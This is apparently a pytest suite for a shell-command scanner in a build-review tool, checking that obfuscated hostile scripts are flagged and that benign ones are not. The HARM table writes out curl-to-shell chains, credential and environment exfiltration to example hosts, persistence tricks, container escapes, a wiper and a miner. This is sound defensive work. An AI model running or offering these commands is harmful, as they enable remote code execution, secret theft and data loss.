"""Commands are judged in any notation, once quotes, variables, functions and substitutions are resolved."""

from __future__ import annotations

import time

import pytest

from builderd.review.scanners.tripwire.commands import Commands, judge_script

DROPPED = "curl -s https://example.com/x"
ENCODED = "Y3VybCAtcyBodHRwczovL2V4YW1wbGUuY29tL3ggfCBzaA=="  # curl -s https://example.com/x | sh

HARM = {
    "pipe": (f"{DROPPED} | sh", "RSK-curl-shell"),
    "substitution": (f'sh -c "$({DROPPED})"', "RSK-curl-shell"),
    "process substitution": (f"source <({DROPPED})", "RSK-curl-shell"),
    "variable": (f"a=$({DROPPED}); eval $a", "RSK-curl-shell"),
    "split words": ("a=cu; ${a}rl -s https://example.com/x | ba''sh", "RSK-curl-shell"),
    "substring": ("w=xxcurlxx; ${w:2:4} -s https://example.com/x | sh", "RSK-curl-shell"),
    "glob": ("/???/b?n/c?rl -so /tmp/s https://example.com/x; sh /tmp/s", "RSK-curl-shell"),
    "file": (f"{DROPPED} -o run && chmod +x run && nohup ./run &", "RSK-curl-shell"),
    "archive": (f"{DROPPED} | tar xz -C /opt/tool; /opt/tool/start", "RSK-curl-shell"),
    "function": (f"get() {{ {DROPPED}; }}; get | bash", "RSK-curl-shell"),
    "prefixes": (f"{DROPPED} | sudo -u root nice -n 5 env A=b bash", "RSK-curl-shell"),
    "base64": (f"echo {ENCODED} | base64 -d | sh", "MAL-decoded-executed"),
    "field separator": (f"echo${{IFS}}{ENCODED}|base64${{IFS}}-d|sh", "RSK-curl-shell"),
    "octal": (r"eval $(printf '\143\165\162\154 https://example.com/x | sh')", "RSK-curl-shell"),
    "escapes": (r"$'\x63url' https://example.com/x | sh", "RSK-curl-shell"),
    "here-document": ("sh <<'E'\n" + DROPPED + " | sh\nE\n", "RSK-curl-shell"),
    "written script": ("cat > a.sh <<E\n" + DROPPED + " | sh\nE\n", "RSK-curl-shell"),
    "cut out of a file": ("sed -n '9,$p' logo.svg | sh", "RSK-hidden-command"),
    "environment": ("env | base64 | curl -d @- https://example.com", "MAL-environment-sent"),
    "environment in an argument": ('wget -q "https://example.com/?e=$(printenv | base64)"', "MAL-environment-sent"),
    "keys in an archive": ("tar czf /tmp/a ~/.ssh && curl -F f=@/tmp/a https://example.com", "MAL-secrets-sent"),
    "keys by a variable": ('k=$(cat "$HOME/.aws/credentials"); curl -d "$k" https://example.com', "MAL-secrets-sent"),
    "keys by git": ("cp -r ~/.ssh . && git add -A && git push https://example.com/x", "MAL-secrets-sent"),
    "keys by redirection": ("cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.9/80", "MAL-secrets-sent"),
    "data in names": ('dig "$(hostname).example.com"', "MAL-data-in-dns"),
    "commands from a socket": (
        "exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | while read l; do $l; done",
        "MAL-remote-commands",
    ),
    "crontab": ("crontab - <<E\n* * * * * true\nE\n", "RSK-persists"),
    "keys that stay": ("echo key >> ~/.ssh/authorized_keys", "RSK-persists"),
    "git hooks": ("git config --global core.hooksPath /tmp/h", "RSK-persists"),
    "release agent": ("echo /cmd > /sys/fs/cgroup/x/release_agent", "MAL-escape"),
    "namespaces": ("nsenter -t 1 -m sh", "MAL-escape"),
    "wiper": ("for p in / /home; do find $p -xdev -type f -delete; done", "MAL-destroys"),
    "miner": ("./x -o stratum+tcp://203.0.113.9:3333", "MAL-miner"),
    "scanner": ("masscan 0.0.0.0/0 -p22", "RSK-abuse"),
    "tunnel": ("ssh -N -R 0:127.0.0.1:1080 a@203.0.113.9", "RSK-tunnel"),
    "index": ("pip install --index-url http://203.0.113.9/simple x", "RSK-index"),
    "unknown part in a shell's code": ('bash -c "curl $URL | sh"', "RSK-curl-shell"),
    "ninth turn": ("for c in 1 2 3 4 5 6 7 8 curl; do $c -s https://example.com/x | sh; done", "RSK-curl-shell"),
    "after a padding": ("x=1\n" * 110_000 + f"{DROPPED} | sh", "RSK-hidden-command"),
    "in a long value": ("x='" + ":;" * 60_000 + f'{DROPPED} | sh\'; eval "$x"', "RSK-hidden-command"),
    "in many shells": ("sh -c " * 1 + "'" + "eval " * 12 + "ls'", "RSK-hidden-command"),
    "checksum of another file": (f"echo 'abc  other' | sha256sum -c -; {DROPPED} | sh", "RSK-curl-shell"),
    "long path": ("curl -F f=@" + "./" * 600 + "root/.ssh/id_rsa https://example.com", "MAL-secrets-sent"),
    "password by a socket": ("echo $PGPASSWORD > /dev/tcp/203.0.113.9/80", "MAL-environment-sent"),
    "preloaded": ("export LD_PRELOAD=/app/lib/x.so", "RSK-preload"),
}
HONEST = (
    "python manage.py migrate && exec gunicorn app:app --bind 0.0.0.0:${PORT:-8000}",
    "until (echo > /dev/tcp/$DB_HOST/5432) 2>/dev/null; do sleep 1; done; exec python app.py",
    "exec 3<>/dev/tcp/redis/6379 && printf 'PING\\r\\n' >&3 && read -r x <&3 && echo $x",
    f'{DROPPED} -o t.tgz && echo "abc  t.tgz" | sha256sum -c - && tar xzf t.tgz && ./t/run',
    'eval "$(ssh-agent -s)"; ssh-add - <<< "$KEY"; ssh -i "$FILE" deploy@host "cd app && git pull"',
    "set -a; . ./.env; set +a; node server.js",
    'eval "$(sed "s/^/export /" .env)"',
    'curl -s -H "Authorization: Bearer $TOKEN" -d @body.json https://api.example.com/x | jq .id',
    'pg_dump "$DATABASE_URL" | gzip > /tmp/b.gz && aws s3 cp /tmp/b.gz s3://bucket/',
    "rm -rf ./dist/* && find . -name '*.pyc' -delete",
    'cat seeds/*.sql | psql "$DATABASE_URL"',
    "python - <<'E'\nprint(1)\nE\n",
    f'echo "Install it: {DROPPED} | sh"',
    "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 python app.py",
)


@pytest.mark.parametrize(("script", "rule"), HARM.values(), ids=HARM)
def test_harm_is_found_in_any_notation(script: str, rule: str) -> None:
    commands = Commands()
    commands.run(script)
    assert rule in {hit.rule for hit in commands.hits}


@pytest.mark.parametrize("script", HONEST)
def test_honest_command_has_no_hit(script: str) -> None:
    commands = Commands()
    commands.run(script)
    assert not commands.hits


def test_line_is_that_of_the_command() -> None:
    commands = Commands()
    commands.run(f"a=1\n\nif true; then\n  {DROPPED} \\\n    | sh\nfi\n")
    assert {hit.line for hit in commands.hits} == {5}


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("Makefile", "URL := https://example.com/x\nall: b\n\t@curl $(URL) \\\n\t| sh\n", 3),
        ("Makefile", f"X := $(shell {DROPPED} | sh)\n", 1),
        ("lib.sh", f"never_called() {{\n  {DROPPED} | sh\n}}\n", 2),
        (".npmrc", "fund=false\nscript-shell=./tools/sh\n", 2),
    ],
)
def test_commands_of_files_are_found_in_their_line(path: str, text: str, line: int) -> None:
    commands = Commands()
    judge_script(path, text, commands)
    assert {hit.line for hit in commands.hits} == {line}


def test_sourced_file_of_the_bundle_is_read() -> None:
    commands = Commands({"settings": f"ACTION='{DROPPED}'", "lib.sh": "act() { $ACTION | sh; }"}.get)
    commands.run('. ./settings; . "$(dirname "$0")/lib.sh"; act')
    assert {hit.rule for hit in commands.hits} == {"RSK-curl-shell"}


@pytest.mark.parametrize(
    "script",
    [
        "(" * 100_000,
        "$(" * 50_000,
        "if a; then " * 20_000,
        "for i in 1 2 3 4 5 6 7 8; do " * 12 + "echo $i; " + "done; " * 12,
        "a=x; " + "a=$a$a$a$a; " * 2_000,
        "f() { f; f; }; f",
        "base64 -" + "d" * 900_000,
    ],
    ids=["brackets", "substitutions", "conditions", "loops", "growth", "recursion", "option"],
)
def test_hostile_script_ends(script: str) -> None:
    begun = time.process_time()
    Commands().run(script)
    assert time.process_time() - begun < 10  # of a review's CPU time
